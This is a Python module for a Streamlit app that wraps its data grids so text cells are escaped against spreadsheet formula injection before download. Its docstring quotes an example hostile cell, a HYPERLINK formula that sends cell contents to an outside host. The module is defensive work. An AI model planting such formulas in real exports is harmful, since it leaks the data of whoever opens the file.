"""Data grids whose own CSV download is safe to open in a spreadsheet.

`st.dataframe`'s toolbar downloads the cells as they are: a question, a file name or a case id that reads
`=HYPERLINK("https://host/?"&A1, "click")` becomes a live formula in whoever opens the file. The app's own
CSV downloads quote such cells (`rag.spreadsheet.safe_cell`); every grid goes through `data_grid` so its
toolbar download does the same. A text cell that would start a formula is shown with a leading `'`, as a
spreadsheet shows it; numbers, links the app builds (`/?run=...`) and ordinary text are unchanged.
"""
from __future__ import annotations

from typing import Any

import pandas as pd
import streamlit as st

from rag.spreadsheet import safe_cell


def formula_safe(data: Any) -> Any:
    """`data` (a DataFrame, or a pandas Styler over one) with every text cell through `safe_cell`; the
    caller's frame is left as it was."""
    if type(data).__name__ == "Styler" and isinstance(getattr(data, "data", None), pd.DataFrame):
        data.data = formula_safe(data.data)  # the Styler's own copy: its styles apply by label, unchanged
        return data
    if not isinstance(data, pd.DataFrame):
        return data
    frame = data.copy()
    for column in frame.columns:
        if frame[column].dtype == object or pd.api.types.is_string_dtype(frame[column]):
            frame[column] = frame[column].map(safe_cell)
    return frame


def data_grid(data: Any, **kwargs: Any) -> Any:
    """`st.dataframe(data, **kwargs)` with formula-safe cells (what a selection event returns is the same)."""
    return st.dataframe(formula_safe(data), **kwargs)


__all__ = ["data_grid", "formula_safe"]
